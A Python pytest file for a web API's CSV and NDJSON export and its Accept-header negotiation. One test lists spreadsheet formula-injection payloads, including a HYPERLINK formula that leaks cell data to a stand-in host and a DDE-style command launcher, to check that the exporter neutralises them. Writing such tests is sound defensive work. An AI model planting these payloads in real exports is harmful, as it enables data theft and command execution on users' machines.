"""Records as CSV and NDJSON, and which of them an Accept header asks for."""

import csv
import io
import json

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.api import rows
from web.http.problems import Problem

TRICKY = '[{"a":1.10,"b":"x, \\"y\\"","c":null},{"a":-0.0,"b":"","d":{"k":[1.50,"é\\u2028"]}},{"b":"two\\r\\nlines","a":1e400}]'.encode()


@pytest.mark.parametrize(
    ("accept", "form"),
    [
        ("", rows.JSON),
        (" ", rows.JSON),
        ("*/*", rows.JSON),
        ("application/*", rows.JSON),
        ("text/csv", rows.CSV),
        ("TEXT/CSV; header=present", rows.CSV),
        ("text/*", rows.CSV),
        ("application/x-ndjson", rows.NDJSON),
        ("application/json, text/csv", rows.JSON),
        ("text/csv, application/json", rows.CSV),
        ("text/csv, */*", rows.CSV),
        ("*/*, text/csv", rows.CSV),
        ("application/json;q=0.5, text/csv;q=0.9", rows.CSV),
        ("application/json;q=0.5, text/csv ; Q=0.4", rows.JSON),
        ("text/csv;q=0, */*", rows.JSON),
        ("application/json;q=0, */*;q=0.1", rows.CSV),
        ("text/*;q=0.2, text/csv;q=0.9, application/json;q=0.5", rows.CSV),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", rows.JSON),  # browsers
        ("text/csv;q=x, application/json;q=0.1", rows.JSON),
        ("text/html", None),
        ("text/csv;q=0", None),
        ("text/csv;q=0.000", None),
        ("*/*;q=0", None),
        ("application/xml, image/*", None),
        ("nonsense", None),
        (";;;,,,=", None),
        ("a/b, " * 5_000 + "text/csv", None),  # what stands after a hundred is not looked at
    ],
)
def test_the_form_that_a_client_takes_most_gladly(accept, form):
    """RFC 9110, 12.5.1: quality, then exactness, then order; None is a 406."""
    assert rows.negotiate(accept) == form


@given(st.text(alphabet="abc/*;q=01., text/csvapplicationjsonx-"))
def test_no_accept_header_breaks_it(accept):
    """Whatever it says, it is one of the forms or none."""
    assert rows.negotiate(accept) in (*rows.FORMS, None)


def test_csv_has_a_header_fields_in_order_json_for_lists_and_nothing_for_null():
    """Numbers as they are spelt, an empty text told from nothing, columns of the definition first and others behind."""
    text = rows.csv(TRICKY, ["b", "z", "a"]).decode()
    assert text == (
        'b,z,a,c,d\r\n"x, ""y""",,1.10,,\r\n"",,-0.0,,"{""k"":[1.50,""é\\u2028""]}"\r\n"two\r\nlines",,1e400,,\r\n'
    )


def test_csv_without_records_is_its_header():
    """So that a reader of tables reads an empty one."""
    assert rows.csv(b"[]", ["a", "b"]) == b"a,b\r\n"
    assert rows.csv(b"[]") == b""
    assert rows.csv(b'[{"a":null}]') == b'a\r\n""\r\n'


def test_a_csv_that_is_nearly_empty_is_refused_before_it_is_made(monkeypatch):
    """Records that each name a field of their own, of 5 MB in all, would be a table of a hundred billion cells."""
    monkeypatch.setattr(rows, "CELLS_MAX", 12)
    records = [{f"k{number}": 1} for number in range(4)]
    assert rows.csv(msgspec.json.encode(records[:3]), ["a"]).count(b"\r\n") == 4
    with pytest.raises(Problem, match="expected a CSV of 12 cells at most, found 4 records with 5 fields") as caught:
        rows.csv(msgspec.json.encode(records), ["a"])
    assert caught.value.answer().status == 406


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", '=HYPERLINK("http://a.example/"&A1,"x")', "+1-cmd", "-1+1", "-2+3|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
        "\uff1d1+1", "\uff20x", "'=1", "''@x", "--5", "+49 30 1234", "=\n1", "-5,A1",
    ],
)  # fmt: skip
def test_a_text_that_a_spreadsheet_would_run_is_made_inert_and_can_be_had_back(text):
    """An apostrophe in front, in a value and in a header; taking one off gives the text again."""
    table = list(csv.reader(io.StringIO(rows.csv(msgspec.json.encode([{"a": text, text: 1}])).decode(), newline="")))
    assert table[0][1] == table[1][0] == f"'{text}"
    assert rows.FORMULA.match(table[1][0])


@pytest.mark.parametrize(
    "text", ["-1.25", "+3", "-1.234,56", "-.5e-7", "-5%", "-", "=", "a=b", "'tis", " =1", "2026-11-24", "-1,2"]
)
def test_numbers_and_plain_texts_are_left_alone(text):
    """A negative price stays a number, a dash for "none" a dash."""
    table = list(csv.reader(io.StringIO(rows.csv(msgspec.json.encode([{"a": text}])).decode(), newline="")))
    assert table == [["a"], [text]]


cells = st.one_of(
    st.none(), st.text(), st.text(alphabet="'=+-@\t\r\n\",;1a"), st.integers(), st.booleans(), st.lists(st.text())
)


@given(st.lists(st.dictionaries(st.sampled_from(["a", "b", "=c", "ü"]), cells, min_size=1)))
def test_every_csv_can_be_read_back_whole(records):
    """By Python's reader and the rule of the apostrophe: nothing is lost and nothing comes in between."""
    table = rows.csv(msgspec.json.encode(records), ["a"]).decode()
    lines = list(csv.reader(io.StringIO(table, newline="")))
    names = [undone(name) for name in lines[0]]
    assert len(lines) == len(records) + 1
    for record, line in zip(records, lines[1:], strict=True):
        for name, cell in zip(names, line, strict=True):
            value = record.get(name)
            if isinstance(value, str):
                assert undone(cell) == value
            else:
                assert cell == ("" if value is None else msgspec.json.encode(value).decode())


def undone(cell):
    """A cell's text, for who reads by program."""
    return cell[1:] if cell.startswith("'") and rows.FORMULA.match(cell) else cell


def test_ndjson_is_each_record_as_it_is_on_a_line():
    """Byte for byte; white space between the parts of one, where there is any, holds no line break."""
    lines = rows.ndjson(TRICKY).splitlines(keepends=True)
    assert b"[" + b",".join(line.rstrip(b"\n") for line in lines) + b"]" == TRICKY
    assert rows.ndjson(b"[]") == b""
    assert rows.ndjson(b'[{"a":\r\n1},\n{"b":2}]') == b'{"a":  1}\n{"b":2}\n'


def test_records_of_a_result_are_cut_out_as_they_are():
    """And several lists become one."""
    result = b'{"task":"1","count":2,"error":null,"records":[{"a":1.10}, {"a":2}]}'
    assert rows.records_of(result) == b'[{"a":1.10}, {"a":2}]'
    joined = rows.joined([rows.records_of(result), b"[]", b'[{"a":3e0}]'])
    assert joined == b'[{"a":1.10},{"a":2},{"a":3e0}]'
    assert len(json.loads(joined)) == 3
